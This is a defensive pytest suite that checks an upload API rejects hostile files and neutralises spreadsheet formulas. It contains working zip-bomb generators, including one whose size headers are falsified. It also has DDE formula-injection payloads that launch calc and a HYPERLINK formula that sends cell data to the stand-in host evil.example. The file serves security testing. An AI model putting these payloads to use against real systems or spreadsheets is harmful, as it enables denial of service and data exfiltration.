"""Hostile uploads through the JSON API: zip bombs (honest and lying), huge cells, bad encodings,
binaries, formulas. A bad file gets a clear 4xx with its code, and leaves nothing behind: no job,
no opt-out, no ledger event, no stored upload. Formulas are data, never formulas again: the
rows they sit in are rejected, and the report that echoes them is safe to open in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa

from stopline.services import jobs
from stopline.store.db import read
from stopline.store.tables import consent_events, opt_outs
from stopline.store.tables import jobs as jobs_table


def _workbook(rows: list[list[Any]]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _ratio_bomb() -> bytes:
    """A real workbook whose sheet carries 60 MB of whitespace: 1000:1 compression."""
    base = zipfile.ZipFile(io.BytesIO(_workbook([["phone"], ["+14155550123"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in base.infolist():
            data = base.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * (60 * 1024 * 1024))
            dst.writestr(item.filename, data)
    return out.getvalue()


def _lying_bomb() -> bytes:
    """The zip directory claims the sheet is 2 KB; its deflate stream inflates to 60 MB."""
    data = bytearray(_ratio_bomb())
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) != -1:
            name_len = struct.unpack_from(
                "<H", data, at + (26 if signature == b"PK\x03\x04" else 28)
            )[0]
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if bytes(data[name_at : name_at + name_len]) == name:
                struct.pack_into("<I", data, at + size_at, 2048)
            start = at + 4
    return bytes(data)


def _many_parts() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for i in range(10_050):
            dst.writestr(f"xl/media/{i}.bin", b"")
        dst.writestr("xl/workbook.xml", b"<workbook/>")
    return out.getvalue()


BAD_FILES: list[tuple[str, Callable[[], bytes], set[str]]] = [
    ("bomb.xlsx", _ratio_bomb, {"file_zip_bomb"}),
    ("lying-bomb.xlsx", _lying_bomb, {"file_zip_bomb", "file_malformed"}),
    ("parts.xlsx", _many_parts, {"file_zip_bomb"}),
    ("truncated.xlsx", lambda: _workbook([["phone"], ["+14155550123"]])[:300], {"file_malformed"}),
    (
        "huge-cell.csv",
        lambda: b"phone,note\n+14155550123," + b"x" * (3 * 1024 * 1024) + b"\n",
        {"file_malformed"},
    ),
    (
        "undecodable.csv",
        lambda: b"phone\n+1415\x81\x8d\x90555\n" + b"\xff\xfe\x9d" * 50,
        {"file_encoding"},
    ),
    (
        "binary.csv",
        lambda: b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 20,
        {"file_format_unsupported"},
    ),
    (
        "nul.csv",
        lambda: b"phone\n+14155550123\n\x00\x00\n",
        {"file_format_unsupported", "file_malformed"},
    ),
    ("no-phone.csv", lambda: b"=cmd|' /C calc'!A0,name\n=1+1,Ann\n", {"phone_column_not_found"}),
]


def _counts(engine: sa.Engine, workspace_id: int) -> tuple[int, int, int]:
    with read(engine) as conn:
        return tuple(  # type: ignore[return-value]
            int(
                conn.execute(
                    sa.select(sa.func.count()).where(table.c.workspace_id == workspace_id)
                ).scalar_one()
            )
            for table in (jobs_table, opt_outs, consent_events)
        )


@pytest.mark.parametrize(("filename", "make", "codes"), BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_a_hostile_file_is_refused_clearly_and_leaves_nothing(
    engine, client, created, runtime, filename, make, codes
) -> None:
    auth = {"Authorization": f"Bearer {created.api_key}"}
    before = _counts(engine, created.workspace.id)
    response = client.post(
        "/api/v1/imports",
        headers=auth,
        files={"file": (filename, make(), "application/octet-stream")},
        data={"reason": "hostile"},
    )
    assert response.status_code == 422, (response.status_code, response.text[:300])
    assert response.json()["error"]["code"] in codes, response.json()
    assert _counts(engine, created.workspace.id) == before
    uploads = Path(runtime.config.data_dir) / "uploads" / str(created.workspace.id)
    assert not uploads.exists() or list(uploads.iterdir()) == []


def _run(engine: sa.Engine, workspace_id: int, job_id: int) -> jobs.Job:
    for _ in range(50):
        with read(engine) as conn:
            job = jobs.get(conn, workspace_id, job_id)
        if job.status in ("done", "failed"):
            return job
        jobs.run_next(engine, "test-uploads", ["import"])
    raise AssertionError("the import never finished")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_in_an_import_are_rejected_rows_and_defused_in_its_report(
    engine, client, created, kind
) -> None:
    good = ["+14155550111", "(415) 555-0112"]
    rows = [["phone", "note"], *[[g, "ok"] for g in good], *[[f, "x"] for f in FORMULAS]]
    if kind == "csv":
        out = io.StringIO()
        csv.writer(out).writerows(rows)
        content, name = out.getvalue().encode(), "people.csv"
    else:
        content, name = _workbook(rows), "people.xlsx"
    auth = {"Authorization": f"Bearer {created.api_key}"}
    started = client.post(
        "/api/v1/imports",
        headers=auth,
        files={"file": (name, content, "application/octet-stream")},
        data={"reason": '=HYPERLINK("http://evil.example")'},
    )
    assert started.status_code == 202, started.text
    job = _run(engine, created.workspace.id, started.json()["id"])
    assert job.status == "done", job.error
    assert (job.result["added"], job.result["rejected"]) == (2, len(FORMULAS))
    with read(engine) as conn:
        stored = set(
            conn.execute(
                sa.select(opt_outs.c.number).where(opt_outs.c.workspace_id == created.workspace.id)
            ).scalars()
        )
    assert stored == {"+14155550111", "+14155550112"}
    report = client.get(f"/api/v1/imports/{job.id}/report.csv", headers=auth)
    assert report.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(report.text.lstrip("\ufeff"))) for cell in row]
    echoed = [
        c for c in cells if "cmd|" in c or "HYPERLINK" in c or c.lstrip("'\t\r").startswith("=")
    ]
    assert echoed, "the report lists the rejected cells"
    dangerous = [c for c in cells if c and c[0] in "=@\t\r+-" and not _plain_number(c)]
    assert dangerous == []


def _plain_number(cell: str) -> bool:
    import re

    return re.fullmatch(r"[+-]?\d+(\.\d+)?", cell) is not None
